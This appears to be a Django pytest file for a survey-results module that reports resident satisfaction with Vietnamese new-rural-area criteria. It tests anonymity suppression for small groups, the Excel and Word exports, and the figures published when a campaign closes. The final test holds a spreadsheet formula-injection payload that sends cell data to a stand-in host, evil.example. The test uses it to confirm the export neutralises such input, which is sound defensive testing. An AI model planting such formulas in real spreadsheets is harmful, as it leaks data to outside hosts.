"""Results against the thresholds per hamlet and commune; Excel export; Word report; the figures published to the
criteria engine (the assessment app's computed values) when a campaign closes."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ntm.assessment.models import ComputedValue
from ntm.audit.models import AuditEntry
from ntm.core.wordtemplates import open_document
from ntm.surveys.models import Campaign
from ntm.surveys.reports import result_report_docx
from ntm.surveys.selectors import online_survey_communes, results_of, satisfaction_results
from ntm.surveys.services.answers import answer_submit, paper_answer_record
from ntm.surveys.services.campaigns import SATISFACTION_MIN_CONTENT, SATISFACTION_OVERALL, campaign_close
from ntm.surveys.tests.factories import all_satisfied

pytestmark = pytest.mark.django_db


def answer(survey, households, **overrides):
    for household in households:
        answer_submit(household=household, responses=all_satisfied(survey.campaign, **overrides), comments={})


@pytest.fixture
def answered(survey):
    """Hamlet 1: 12 answers (10 satisfied with the environment); hamlet 2: 11 answers; hamlet 3: 3 answers."""
    bk, ph, ld = (survey.households[i * 12 : (i + 1) * 12] for i in range(3))
    answer(survey, bk[:10])
    answer(survey, bk[10:12], moi_truong=False, chung=False)
    answer(survey, ph[:11], moi_truong=False)
    answer(survey, ld[:2])
    paper_answer_record(
        campaign=survey.campaign,
        officer=survey.front_a,
        household_code=ld[2].code,
        responses=all_satisfied(survey.campaign),
        comments={"y_kien_khac": "Cần thêm đèn đường"},
    )
    return survey


def test_results_per_content_and_overall_with_small_groups_hidden(answered):
    results = results_of(answered.campaign)
    commune = results.commune
    assert (commune.answers, commune.households, commune.online, commune.paper) == (26, 36, 25, 1)
    assert commune.overall.percent == round(100 * 24 / 26, 1) and commune.overall_met is True
    environment = commune.content("moi_truong")
    assert (environment.share.yes, environment.share.total) == (13, 26) and environment.met is False
    assert commune.content("giao_thong").met is True and commune.contents_met is False
    hamlets = {h.name: h for h in results.hamlets}
    assert hamlets["Ấp Long Đức"].suppressed
    # Long Đức (3) alone would be revealed by the commune total: Phước Hòa (11) is hidden with it.
    assert hamlets["Ấp Phước Hòa"].suppressed and not hamlets["Ấp Bà Ký"].suppressed
    assert hamlets["Ấp Bà Ký"].content("moi_truong").share.percent == round(100 * 10 / 12, 1)
    assert hamlets["Ấp Long Đức"].coverage.percent == 25.0


@pytest.mark.sqlite_journey
def test_results_page_shows_table_chart_marks_and_hidden_groups(client, answered):
    client.force_login(answered.cast.officer_a)
    html = client.get(reverse("surveys:results", args=[answered.campaign.pk])).content.decode()
    assert "<svg" in html and "<script" not in html.split("</header>")[1]
    assert "Môi trường và an toàn thực phẩm" in html and "dưới ngưỡng" in html
    assert "Ẩn để bảo vệ danh tính" in html and "chưa đủ 10" not in html
    assert "Chưa xác nhận" in html and "Xác nhận một phần" in html
    assert "92,3%" in html  # overall with Vietnamese decimals
    assert "Cần thêm đèn đường" in html


def test_comments_are_hidden_below_ten_answers(client, survey):
    paper_answer_record(
        campaign=survey.campaign,
        officer=survey.front_a,
        household_code=survey.households[0].code,
        responses=all_satisfied(survey.campaign),
        comments={"y_kien_khac": "Ý kiến riêng"},
    )
    client.force_login(survey.front_a)
    html = client.get(reverse("surveys:results", args=[survey.campaign.pk])).content.decode()
    assert "Ý kiến riêng" not in html and "Ẩn để bảo vệ danh tính" in html


def test_excel_export_has_summary_contents_comments_and_notes(client, answered):
    client.force_login(answered.cast.coordinator)
    response = client.get(reverse("surveys:results_export", args=[answered.campaign.pk]))
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Tổng hợp", "Theo nội dung", "Ý kiến", "Ghi chú"]
    summary = list(book["Tổng hợp"].iter_rows(values_only=True))
    assert summary[1][:3] == ("Xã Long Phước", 36, 26)
    hidden = [row for row in summary[2:] if row[0] in {"Ấp Long Đức", "Ấp Phước Hòa"}]
    assert all(row[5] is None and row[8] == "ẩn để bảo vệ danh tính" for row in hidden)
    contents = list(book["Theo nội dung"].iter_rows(values_only=True))
    assert contents[0][-1] == "Ấp Bà Ký (%)" and len(contents[0]) == 7  # hidden hamlets get no column
    assert len(contents) == 1 + 19
    assert any("chưa xác nhận" in row[0] for row in book["Ghi chú"].iter_rows(values_only=True))


def test_word_report_follows_the_decree_30_layout_and_holds_the_figures(answered):
    content = result_report_docx(answered.campaign, results_of(answered.campaign))
    document = open_document(content)
    text = "\n".join(p.text for p in document.paragraphs)
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    everything = text + "\n" + "\n".join(cells)
    for expected in (
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "XÃ LONG PHƯỚC",
        "BÁO CÁO",
        "Kết quả lấy ý kiến sự hài lòng của người dân về kết quả xây dựng nông thôn mới tại Xã Long Phước",
        "số hộ đã trả lời: 26 hộ, đạt 72,2%",
        "Tỷ lệ hài lòng chung: 92,3%",
        "Nơi nhận:",
        "TM. BAN THƯỜNG TRỰC",
        "Môi trường và an toàn thực phẩm",
        "ẩn để bảo vệ danh tính",
        "chưa xác nhận",
    ):
        assert expected in everything, expected
    contents_table = document.tables[1]
    assert len(contents_table.rows) == 1 + 19
    environment = next(row for row in contents_table.rows if row.cells[1].text.startswith("Môi trường"))
    assert [c.text for c in environment.cells[2:]] == ["26", "13", "50,0", "Chưa đạt"]
    assert len(document.tables[2].rows) == 1 + 3
    section = document.sections[0]
    assert round(section.left_margin.cm) == 3 and round(section.right_margin.cm, 1) == 1.5
    assert document.styles["Normal"].font.name == "Times New Roman"


def test_the_report_downloads_as_docx(client, answered):
    client.force_login(answered.front_a)
    response = client.get(reverse("surveys:report_docx", args=[answered.campaign.pk]))
    assert response.status_code == 200 and response["Content-Type"].endswith("wordprocessingml.document")
    assert response.content[:2] == b"PK"


def test_results_are_read_only_from_closed_campaigns_and_published_at_close(answered):
    unit, year = answered.cast.commune_a, answered.campaign.year
    assert satisfaction_results(unit, year) is None  # still open: nothing for the engine
    assert not ComputedValue.objects.exists()
    campaign_close(campaign=answered.campaign)
    result = satisfaction_results(unit, year)
    assert result["frozen"] is True and result["answers"] == 26 and result["households"] == 36
    assert result["overall"] == 92.3 and result["by_content"]["moi_truong"] == 50.0
    assert len(result["by_content"]) == 19 and "chung" not in result["by_content"]
    assert result["thresholds"]["content"][1] == "partial"
    assert satisfaction_results(unit, year - 1) is None
    assert online_survey_communes(year) == [unit]
    published = {row.source: row for row in ComputedValue.objects.filter(unit=unit, year=year)}
    overall, lowest = published[SATISFACTION_OVERALL], published[SATISFACTION_MIN_CONTENT]
    assert overall.value == 92.3 and lowest.value == 50.0
    assert overall.detail == result, "every figure travels with the overall share (recognition reads it)"
    reference = f"surveys.campaign:{answered.campaign.pk}"
    assert overall.reference == lowest.reference == reference
    assert overall.url == reverse("surveys:detail", args=[answered.campaign.pk])
    assert AuditEntry.objects.filter(action="computed_value.set").count() == 2


def test_figures_are_withheld_below_ten_answers(survey):
    answer(survey, survey.households[:3])
    campaign_close(campaign=Campaign.objects.get(pk=survey.campaign.pk))
    result = satisfaction_results(survey.cast.commune_a, survey.campaign.year)
    assert result["suppressed"] and result["overall"] is None and result["by_content"] == {}
    published = ComputedValue.objects.get(source=SATISFACTION_OVERALL)
    assert published.value is None and published.detail == result, "no figure for the engine, the rest kept"


def test_an_anonymous_comment_written_as_a_formula_is_exported_as_text(client, survey):
    """An answerer types a formula as a comment: the results workbook shows it as typed and never runs it."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    for household in survey.households[:10]:
        answer_submit(
            household=household, responses=all_satisfied(survey.campaign), comments={"y_kien_khac": formula}
        )
    client.force_login(survey.cast.coordinator)
    response = client.get(reverse("surveys:results_export", args=[survey.campaign.pk]))
    sheet = load_workbook(io.BytesIO(response.content))["Ý kiến"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert len(cells) == 10
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
